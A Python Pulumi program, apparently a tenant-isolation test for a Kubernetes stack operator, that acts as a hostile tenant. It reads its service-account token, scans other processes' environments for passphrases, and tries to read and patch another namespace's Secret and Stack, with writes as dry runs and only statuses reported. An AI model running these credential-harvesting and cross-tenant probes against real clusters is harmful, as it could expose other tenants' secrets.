"""A hostile tenant's program: it tries to act beyond its own Stack and reports what worked.

Config: ``victimNamespace`` and ``victimStack`` (another tenant's Stack), ``victimSecret``
(a Secret of that namespace), ``workRoot`` (where the local runner keeps checkouts),
``metricsUrl`` (the operator's /metrics, which names every tenant's Stacks).

Output ``attempts``: for each try, what came back: an HTTP status for API calls (200: it
worked; writes are dry runs, so nothing changes even when allowed), the identity its token
is, and whether another tenant's passphrase or checkout was found (never the values).
"""

import base64
import glob
import json
import os
import ssl
import urllib.error
import urllib.request

import pulumi

ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
config = pulumi.Config()
victim_ns = config.require("victimNamespace")
victim = config.require("victimStack")
secret = config.require("victimSecret")
work_root = config.get("workRoot") or "/var/lib/pulumi-stack-operator"
metrics_url = config.get("metricsUrl")


def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def process_environments():
    for path in glob.glob("/proc/[0-9]*/environ"):
        entries = read(path).split(b"\0")
        yield dict(e.decode(errors="replace").partition("=")[::2] for e in entries if b"=" in e)


def api_server():
    for env in (os.environ, *process_environments()):
        host, port = env.get("KUBERNETES_SERVICE_HOST"), env.get("KUBERNETES_SERVICE_PORT")
        if host and port:
            return f"https://{host}:{port}"
    return None


def identity(token):
    try:
        payload = token.split(".")[1]
        claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
        return claims.get("sub", "?")
    except (IndexError, ValueError):
        return "no token"


def status(request, context, token):
    """The HTTP status ``request`` gets (with ``token`` as bearer, if any), or why none."""
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(request, context=context, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as err:
        return err.code
    except (OSError, ValueError) as err:
        return f"unreachable: {type(err).__name__}"


def call(server, token, method, path, body=None):
    if server is None or not token:
        return "no api server or token"
    context = ssl.create_default_context(cafile=f"{ACCOUNT}/ca.crt")
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(server + path, data=data, method=method)
    if body is not None:
        request.add_header("Content-Type", "application/merge-patch+json")
    return status(request, context, token)


def scrape(url, token):
    """GET the operator's metrics (its certificate unverified, as a scan would)."""
    if not url:
        return "no url"
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return status(urllib.request.Request(url), context, token)


token = read(f"{ACCOUNT}/token").decode().strip()
server = api_server()
stack_path = f"/apis/pulumi.com/v1/namespaces/{victim_ns}/stacks/{victim}"
own = os.environ.get("PULUMI_CONFIG_PASSPHRASE")
passphrases = {e.get("PULUMI_CONFIG_PASSPHRASE") for e in process_environments()}
attempts = {
    "identity": identity(token),
    "listStacks": call(server, token, "GET", "/apis/pulumi.com/v1/stacks"),
    "readSecret": call(server, token, "GET", f"/api/v1/namespaces/{victim_ns}/secrets/{secret}"),
    "patchStack": call(
        server, token, "PATCH", f"{stack_path}?dryRun=All", {"spec": {"suspend": True}}
    ),
    "writeStatus": call(
        server, token, "PATCH", f"{stack_path}/status?dryRun=All", {"status": {"outputs": {}}}
    ),
    "foreignPassphrase": bool(passphrases - {own, None}),
    "foreignCheckout": os.path.isdir(f"{work_root}/{victim_ns}/{victim}/source"),
    "readMetrics": scrape(metrics_url, token),
    "readMetricsAnonymously": scrape(metrics_url, None),
}
pulumi.export("attempts", attempts)
